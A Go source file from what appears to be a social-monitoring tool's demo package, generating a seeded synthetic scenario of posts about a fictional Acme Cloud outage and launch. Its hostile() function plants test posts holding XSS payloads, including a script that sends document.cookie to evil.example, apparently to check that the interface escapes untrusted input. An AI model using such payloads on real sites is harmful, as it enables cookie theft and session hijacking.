package demo

import (
	"math"
	"math/rand/v2"
	"time"

	"github.com/earshot/earshot"
	"github.com/earshot/earshot/internal/draw"
)

// DefaultEnd is the end of the scenario when Options.End is zero: a fixed
// time, so that the default scenario is the same everywhere.
var DefaultEnd = time.Date(2026, time.March, 13, 17, 0, 0, 0, time.UTC)

// Options shape a scenario. The zero value gives the default scenario.
type Options struct {
	// End is when the scenario ends (the demo's "now"); zero means
	// DefaultEnd. Posts are created in [End-Days, End).
	End time.Time
	// Days is how long the scenario runs before End; 0 means 14.
	Days int
	// Seed picks the scenario: the same seed gives the same posts.
	Seed uint64
	// Scale multiplies the volume of posts; 0 means 1, about 1,500 posts on
	// an ordinary day and some 22,000 over the default 14 days.
	Scale float64
}

// Scenario is a generated world: what to watch, what people said, and what
// went wrong.
type Scenario struct {
	Watches []earshot.Watch
	// Posts are raw, ordered by CreatedAt: not normalized, not matched to
	// watches, not scored.
	Posts []earshot.Post
	// Incidents are ordered by StartedAt; the major outage is the last one.
	Incidents []earshot.Incident
	// Accounts are what support imported: the brand's own handles and a
	// customer list with tiers (see accounts).
	Accounts []earshot.SocialAccount
}

// Outage returns the scenario's major outage.
func (s Scenario) Outage() earshot.Incident {
	for _, inc := range s.Incidents {
		if inc.Severity == "major" {
			return inc
		}
	}
	return earshot.Incident{}
}

// Generate builds the scenario opts describe. It is deterministic.
func Generate(opts Options) Scenario {
	s, _ := generate(opts)
	return s
}

// Watches returns the scenario's watches: Acme Cloud and Acme Pay.
func Watches() []earshot.Watch {
	return []earshot.Watch{
		{
			Name:     "acme",
			Terms:    []string{"Acme", "Acme Cloud"},
			Keywords: []string{"#acmedown"},
			Handles:  []string{"acmecloud"},
			Exclude:  []string{"acme anvil", "acme corporation"},
			Services: []string{"api", "dashboard", "login"},
		},
		{
			Name:     "acmepay",
			Terms:    []string{"Acme Pay"},
			Handles:  []string{"acmepay"},
			Services: []string{"payments", "checkout"},
		},
	}
}

// origin says which part of the scenario produced a post; tests use it.
type origin uint8

const (
	fromChatter origin = iota
	fromOutage
	fromRecovery
	fromTail
	fromRepeat
	fromMinor
	fromLaunch
	fromStar
	fromHostile
)

// draft is a post before IDs and URLs are given out in time order.
type draft struct {
	at     time.Time
	src    int // index into sourceSpecs
	author earshot.Author
	kind   earshot.Kind
	text   string
	url    string // only for hostile posts that bring their own
	origin origin
}

type gen struct {
	rng    *rand.Rand
	start  time.Time
	end    time.Time
	scale  float64
	pools  []*pool
	drafts []draft
}

func generate(opts Options) (Scenario, []origin) {
	if opts.End.IsZero() {
		opts.End = DefaultEnd
	}
	if opts.Days <= 0 {
		opts.Days = 14
	}
	if opts.Scale <= 0 {
		opts.Scale = 1
	}
	end := opts.End.UTC()
	g := &gen{
		rng:   rand.New(rand.NewPCG(opts.Seed, opts.Seed^0x9e3779b97f4a7c15)),
		start: end.Add(-time.Duration(opts.Days) * 24 * time.Hour),
		end:   end,
		scale: opts.Scale,
	}
	g.makePools()

	var incidents []earshot.Incident
	if opts.Days >= 12 {
		g.launch(g.atClock(end.Add(-11*24*time.Hour), 16, g.rng.IntN(30)))
	}
	if opts.Days >= 11 {
		incidents = append(incidents, g.minorIncident(g.atClock(end.Add(-9*24*time.Hour), 10, 10+g.rng.IntN(30))))
	}
	var outageStart time.Time
	if opts.Days >= 5 {
		outageStart = g.clockIn(end.Add(-4*24*time.Hour), 14, 0+g.rng.IntN(40))
	} else {
		outageStart = end.Add(-time.Duration(opts.Days) * 12 * time.Hour).Truncate(time.Minute)
	}
	outage := g.outageIncident(outageStart)
	incidents = append(incidents, outage)

	g.chatter()
	g.outage(outage)
	g.aftermath(outage)
	g.hostile()

	posts, origins := g.finish()
	return Scenario{Watches: Watches(), Posts: posts, Incidents: incidents, Accounts: accounts(opts.Seed, posts)}, origins
}

// atClock returns hour:minute UTC on the day of t.
func (g *gen) atClock(t time.Time, hour, minute int) time.Time {
	y, m, d := t.Date()
	return time.Date(y, m, d, hour, minute, 0, 0, time.UTC)
}

// clockIn returns the first hour:minute UTC strictly after from.
func (g *gen) clockIn(from time.Time, hour, minute int) time.Time {
	t := g.atClock(from, hour, minute)
	if !t.After(from) {
		t = t.Add(24 * time.Hour)
	}
	return t
}

// diurnal is the relative posting rate at t: busiest around 15:00 UTC
// (morning in the Americas, afternoon in Europe), about a fifth of that at
// night, and lower at weekends.
func diurnal(t time.Time) float64 {
	h := float64(t.Hour()) + float64(t.Minute())/60
	d := math.Abs(h - 15)
	if d > 12 {
		d = 24 - d
	}
	r := 0.25 + math.Exp(-d*d/(2*4.5*4.5))
	if wd := t.Weekday(); wd == time.Saturday || wd == time.Sunday {
		r *= 0.55
	}
	return r
}

const maxDiurnal = 1.25

// within returns a random time in [from, to) drawn with the daily rhythm.
func (g *gen) within(from, to time.Time) time.Time {
	span := to.Sub(from)
	for {
		t := from.Add(time.Duration(g.rng.Int64N(int64(span))))
		if g.rng.Float64()*maxDiurnal < diurnal(t) {
			return t
		}
	}
}

func (g *gen) add(d draft) {
	if d.at.Before(g.start) || !d.at.Before(g.end) {
		return
	}
	g.drafts = append(g.drafts, d)
}

// poisson draws from a Poisson distribution with mean lambda.
func (g *gen) poisson(lambda float64) int { return draw.Poisson(g.rng, lambda, 40) }

// chatter is the everyday conversation: hour by hour with the daily rhythm.
func (g *gen) chatter() {
	const perHour = 100 // at the daily peak, before the rhythm's scale
	for h := g.start.Truncate(time.Hour); h.Before(g.end); h = h.Add(time.Hour) {
		n := g.poisson(perHour * g.scale * diurnal(h.Add(30*time.Minute)))
		for range n {
			at := h.Add(time.Duration(g.rng.Int64N(int64(time.Hour))))
			src := g.pickSource(false)
			d := draft{at: at, src: src, author: g.pools[src].pick(g.rng), origin: fromChatter}
			var tpl string
			switch x := g.rng.Float64(); {
			case x < 0.006:
				tpl = pick(g.rng, noiseTexts)
			case x < 0.03:
				tpl = pick(g.rng, payNeutralTexts)
			case x < 0.05:
				tpl = pick(g.rng, payPositiveTexts)
			case x < 0.40:
				tpl = pick(g.rng, positiveTexts)
			case x < 0.80:
				tpl = pick(g.rng, neutralTexts)
			default:
				tpl = pick(g.rng, complaintTexts)
			}
			g.dress(&d, tpl)
			g.add(d)
		}
	}
}

// launch is the Acme Pay launch: a positive bump decaying over hours.
func (g *gen) launch(at time.Time) {
	for m := at; m.Before(at.Add(8 * time.Hour)); m = m.Add(time.Minute) {
		r := 2.2 * g.scale * math.Exp(-m.Sub(at).Minutes()/120)
		for range g.poisson(r) {
			src := g.pickSource(false)
			d := draft{at: m.Add(time.Duration(g.rng.Int64N(int64(time.Minute)))), src: src, author: g.pools[src].pick(g.rng), origin: fromLaunch}
			switch x := g.rng.Float64(); {
			case x < 0.70:
				g.dress(&d, pick(g.rng, payPositiveTexts))
			case x < 0.92:
				g.dress(&d, pick(g.rng, payNeutralTexts))
			default:
				g.dress(&d, pick(g.rng, payNegativeTexts))
			}
			g.add(d)
		}
	}
}

func (g *gen) minorIncident(at time.Time) earshot.Incident {
	resolved := at.Add(time.Duration(42+g.rng.IntN(15)) * time.Minute)
	inc := earshot.Incident{
		ID:         earshot.PostID("statuspage", "acme-"+g.token()),
		Source:     "statuspage",
		Title:      "Dashboard slow to load",
		Status:     earshot.Resolved,
		Severity:   "minor",
		Services:   []string{"dashboard"},
		StartedAt:  at,
		ResolvedAt: resolved,
		UpdatedAt:  resolved,
		Updates: []earshot.IncidentUpdate{
			{At: at, Status: earshot.Investigating, Body: "We are investigating reports of the dashboard loading slowly. The API is not affected."},
			{At: resolved, Status: earshot.Resolved, Body: "A slow database query behind the dashboard's overview page has been fixed. Load times are back to normal."},
		},
	}
	inc.URL = "https://status.acme.example/incidents/" + earshot.NativeID(inc.ID)
	for m := at.Add(-5 * time.Minute); m.Before(resolved.Add(10 * time.Minute)); m = m.Add(time.Minute) {
		for range g.poisson(0.8 * g.scale) {
			src := g.pickSource(true)
			d := draft{at: m.Add(time.Duration(g.rng.Int64N(int64(time.Minute)))), src: src, author: g.pools[src].pick(g.rng), origin: fromMinor}
			g.dress(&d, pick(g.rng, minorTexts))
			g.add(d)
		}
	}
	return inc
}

func (g *gen) outageIncident(at time.Time) earshot.Incident {
	jitter := func() time.Duration { return time.Duration(g.rng.IntN(7)-3) * time.Minute }
	identified := at.Add(38*time.Minute + jitter())
	monitoring := at.Add(112*time.Minute + jitter())
	resolved := at.Add(184*time.Minute + jitter())
	inc := earshot.Incident{
		ID:         earshot.PostID("statuspage", "acme-"+g.token()),
		Source:     "statuspage",
		Title:      "Elevated API error rates and login failures",
		Status:     earshot.Resolved,
		Severity:   "major",
		Services:   []string{"api", "login"},
		StartedAt:  at,
		ResolvedAt: resolved,
		UpdatedAt:  resolved,
		Updates: []earshot.IncidentUpdate{
			{At: at, Status: earshot.Investigating, Body: "We are investigating elevated error rates on the API and failed logins to the dashboard."},
			{At: identified, Status: earshot.Identified, Body: "The issue has been identified as a configuration change to the authentication service. A rollback is in progress."},
			{At: monitoring, Status: earshot.Monitoring, Body: "The rollback is complete and error rates are back to normal levels. We are monitoring the results."},
			{At: resolved, Status: earshot.Resolved, Body: "This incident has been resolved. API error rates and logins have been normal for over an hour. A postmortem will follow."},
		},
	}
	inc.URL = "https://status.acme.example/incidents/" + earshot.NativeID(inc.ID)
	return inc
}

// outage is what customers say about the major outage: reports before the
// incident is opened, a negative spike, then recovery.
func (g *gen) outage(inc earshot.Incident) {
	const peak = 6.0 // complaints a minute at the height of the outage
	open := inc.StartedAt
	first := open.Add(-time.Duration(15+g.rng.IntN(11)) * time.Minute)
	full := open.Add(20 * time.Minute)
	fixed := inc.Updates[2].At
	resolved := inc.ResolvedAt
	for m := first; m.Before(resolved.Add(3 * time.Hour)); m = m.Add(time.Minute) {
		var r float64
		switch {
		case m.Before(full):
			r = 0.5 + (peak-0.5)*m.Sub(first).Minutes()/full.Sub(first).Minutes()
		case m.Before(fixed):
			r = peak
		case m.Before(resolved):
			r = peak * (1 - 0.85*m.Sub(fixed).Minutes()/resolved.Sub(fixed).Minutes())
		default:
			r = 0.15 * peak * math.Exp(-m.Sub(resolved).Minutes()/45)
		}
		for range g.poisson(r * g.scale) {
			src := g.pickSource(true)
			d := draft{at: m.Add(time.Duration(g.rng.Int64N(int64(time.Minute)))), src: src, author: g.pools[src].pick(g.rng), origin: fromOutage}
			g.dress(&d, pick(g.rng, outageTexts))
			g.add(d)
		}
	}
	back := fixed.Add(8 * time.Minute)
	for m := back; m.Before(resolved.Add(4 * time.Hour)); m = m.Add(time.Minute) {
		for range g.poisson(1.6 * g.scale * math.Exp(-m.Sub(back).Minutes()/80)) {
			src := g.pickSource(true)
			d := draft{at: m.Add(time.Duration(g.rng.Int64N(int64(time.Minute)))), src: src, author: g.pools[src].pick(g.rng), origin: fromRecovery}
			g.dress(&d, pick(g.rng, recoveryTexts))
			g.add(d)
		}
	}
	// High-reach accounts weigh in: what comms teams dread most.
	for _, s := range []struct {
		src   string
		after time.Duration
		text  string
	}{
		{"bluesky", 12 * time.Minute, "Our Acme Cloud login is broken, the whole team is locked out. Not a good day."},
		{"twitter", 18 * time.Minute, "Acme Cloud is down: API errors and login failures reported by many users. Status page confirms the outage. #acmedown"},
		{"mastodon", 27 * time.Minute, "Acme Cloud down again, our monitoring is all red. Terrible timing."},
		{"twitter", 41 * time.Minute, "Acme Cloud outage hitting a lot of startups right now, login and API down. Third major outage this quarter, customers are angry."},
		{"twitter", 63 * time.Minute, "Acme Cloud API and login outage: what we know so far. Error rates are high and a rollback is in progress."},
	} {
		src := sourceIndex(s.src)
		p := g.pools[src]
		star := p.authors[p.nextStar()]
		g.add(draft{at: open.Add(s.after), src: src, author: star, kind: earshot.KindPost, text: s.text, origin: fromStar})
	}
}

// aftermath is the tail: customers still unhappy in the following days,
// some of them again and again, and talk about the postmortem.
func (g *gen) aftermath(inc earshot.Incident) {
	resolved := inc.ResolvedAt
	until := resolved.Add(96 * time.Hour)
	if until.After(g.end) {
		until = g.end
	}
	if !until.After(resolved.Add(2 * time.Hour)) {
		return
	}
	// Repeat complainers: outage authors on sources support can reach.
	var candidates []draft
	seen := map[string]bool{}
	for _, d := range g.drafts {
		name := sourceSpecs[d.src].name
		if d.origin != fromOutage || name == "hackernews" || name == "rss" || seen[name+d.author.ID] {
			continue
		}
		seen[name+d.author.ID] = true
		candidates = append(candidates, d)
	}
	g.rng.Shuffle(len(candidates), func(i, j int) { candidates[i], candidates[j] = candidates[j], candidates[i] })
	for _, c := range candidates[:min(25, len(candidates))] {
		for range 2 + g.rng.IntN(4) {
			d := draft{at: g.within(resolved.Add(2*time.Hour), until), src: c.src, author: c.author, origin: fromRepeat}
			g.dress(&d, pick(g.rng, tailTexts))
			g.add(d)
		}
	}
	// Everyone else: unhappy posts fading over a few days, and the
	// postmortem from the next day on.
	for range g.poisson(150 * g.scale) {
		at := resolved.Add(time.Duration(g.rng.ExpFloat64() * float64(30*time.Hour)))
		if !at.Before(until) {
			continue
		}
		src := g.pickSource(true)
		d := draft{at: at, src: src, author: g.pools[src].pick(g.rng), origin: fromTail}
		g.dress(&d, pick(g.rng, tailTexts))
		g.add(d)
	}
	pm := resolved.Add(20 * time.Hour)
	if pm.Before(until) {
		for range g.poisson(60 * g.scale) {
			src := g.pickSource(false)
			d := draft{at: g.within(pm, until), src: src, author: g.pools[src].pick(g.rng), origin: fromTail}
			g.dress(&d, pick(g.rng, aftermathTexts))
			g.add(d)
		}
	}
}

// hostile adds a few posts written to break whatever shows them.
func (g *gen) hostile() {
	posts := []struct {
		src    string
		author earshot.Author
		kind   earshot.Kind
		text   string
		url    string
	}{
		{"twitter", earshot.Author{ID: "31337", Handle: "xss_probe", Name: `<script>alert("xss")</script>`, Followers: 12},
			earshot.KindPost, "Testing @acmecloud <script>alert(1)</script> love the service", ""},
		{"mastodon", earshot.Author{ID: "66666", Handle: `"><img src=x onerror=alert(1)>@mastodon.example`, Name: `"><img src=x onerror=alert(1)>`, Followers: 3},
			earshot.KindPost, `Acme Cloud "><img src=x onerror=alert(document.cookie)> is great`, ""},
		{"bluesky", earshot.Author{ID: "did:plc:aaaaaaaaaaaaaaaaaaaaaaaa", Handle: "probe.bsky.example", Name: "Probe"},
			earshot.KindPost, "Acme Cloud is down <iframe src=javascript:alert(1)></iframe> terrible", ""},
		{"rss", earshot.Author{ID: "c-0badc0de", Name: "<b>Mallory</b>"},
			earshot.KindComment, `<p>Nice post about Acme Cloud <script>fetch('//evil.example/?c='+document.cookie)</script> &lt;script&gt;alert(2)&lt;/script&gt;</p>`,
			"javascript:alert(document.domain)"},
		{"reddit", earshot.Author{ID: "t2_evil", Handle: "javascript:alert(1)", Name: "javascript:alert(1)"},
			earshot.KindComment, "Acme Cloud support link: javascript:alert('support') is broken, awful", ""},
	}
	for _, p := range posts {
		g.add(draft{
			at:     g.within(g.start, g.end),
			src:    sourceIndex(p.src),
			author: p.author,
			kind:   p.kind,
			text:   p.text,
			url:    p.url,
			origin: fromHostile,
		})
	}
}

func pick[T any](r *rand.Rand, xs []T) T { return xs[r.IntN(len(xs))] }

// token is a short random identifier.
func (g *gen) token() string {
	const alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, 8)
	for i := range b {
		b[i] = alphabet[g.rng.IntN(len(alphabet))]
	}
	return string(b)
}
